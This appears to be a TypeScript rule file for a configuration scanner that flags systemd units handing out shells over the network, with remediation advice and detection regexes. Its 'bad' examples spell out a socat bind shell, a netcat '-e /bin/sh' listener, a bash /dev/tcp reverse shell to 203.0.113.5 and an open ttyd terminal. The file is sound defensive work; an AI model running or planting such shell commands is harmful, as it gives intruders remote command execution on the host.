import { CRITICAL } from '@plumbline/model/severity';
import { cwe, nist } from '../../../rules/rulesets.ts';
import { commandRule, SERVICE } from '../systemd-rule.ts';

export default commandRule({
  id: 'systemd_shell_on_network',
  title: 'A shell is given to whoever connects, or to another machine (socat EXEC, nc -e, ttyd)',
  terms: ['backdoor', 'bind shell', 'reverse shell', 'netcat'],
  severity: CRITICAL,
  problem: 'Whoever reaches the port, or listens at the other end, runs commands with the rights of the service.',
  remediation: 'Remove the unit and use SSH; if nobody knows it, find out who added it, and change all secrets.',
  sources: ['https://attack.mitre.org/techniques/T1059/004/', `${SERVICE}#ExecStart=`],
  references: [cwe(306), cwe(506), nist('AC-3'), nist('SI-4')],

  examples: {
    bad: [
      `[Service]\n«ExecStart=/usr/bin/socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/bash»`,
      `[Service]\n«ExecStart=/bin/nc -l -p 4444 -e /bin/sh»`,
      `[Service]\n«ExecStart=/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'»`,
      `[Service]\n«ExecStart=/usr/bin/ttyd -p 7681 bash»`,
    ],
    good: [
      `[Service]\nExecStart=/usr/bin/socat TCP-LISTEN:4444,reuseaddr,fork TCP:10.0.0.7:4444`,
      `[Service]\nExecStart=/usr/bin/ttyd -p 7681 -c ops:\${PASSWORD} bash`,
      `[Service]\nExecStart=/usr/bin/ttyd -p 7681 -i lo bash`,
      `[Service]\nExecStart=/usr/bin/ttyd -p 7681 login`,
      `[Service]\nExecStart=/usr/bin/socat UNIX-LISTEN:/run/shop.sock EXEC:/usr/bin/shop`,
      `[Service]\nExecStartPre=/bin/sh -c 'until nc -z db.example.com 5432; do sleep 1; done'`,
    ],
  },

  judge: ({ name, args, text, script }) => {
    const given = (script ?? text).slice(0, LONGEST);
    const isSocat =
      (name === 'socat' || /\bsocat\s/.test(script ?? '')) &&
      /\b(?:TCP[46]?|UDP[46]?|OPENSSL|SSL)(?:-LISTEN|-L|-CONNECT)?:\S/i.test(given) &&
      /\b(?:EXEC|SYSTEM):["']?(?:\/(?:usr\/)?bin\/)?(?:ba|da|z|k)?sh\b/i.test(given);
    const isNetcat =
      (/^(?:nc|ncat|netcat)$/.test(name) || /\b(?:nc|ncat|netcat)\s/.test(script ?? '')) &&
      /\s(?:-\w{0,6}[ec]|--(?:sh-)?exec)[ =]["']?(?:\/(?:usr\/)?bin\/)?(?:ba|da|z|k)?sh\b/.test(given);
    const isReverse = /\b(?:ba|z|k)?sh\s+-\w{0,3}i\b[^\n]{0,20}>&? ?\/dev\/tcp\//.test(given);
    return isSocat || isNetcat || isReverse || isOpenTerminal(name, args) ? `${name} gives a shell away` : undefined;
  },
});

/** A terminal for browsers that asks for no password; the program that it starts may, such as `login`. */
function isOpenTerminal(name: string, args: readonly string[]): boolean {
  if (!/^(?:ttyd|gotty)$/.test(name) || !args.some((word) => SHELL.test(word))) return false;
  const asks = args.some((word) => /^(?:-c|--credential|-H|--auth-header|-A|--ssl-ca)(?:=|$)/.test(word));
  const isOwn = args.some((word, index) =>
    /^(?:lo|127\.[\d.]+|localhost|\/\S+\.sock)$/.test(
      /^(?:-[ia]|--interface|--address)$/.test(args[index - 1] ?? '') ? word : '',
    ),
  );
  return !asks && !isOwn;
}

const SHELL = /^(?:\/(?:usr\/)?bin\/)?(?:ba|da|z|k|fi)?sh$/;

/** Units: characters. */
const LONGEST = 4000;
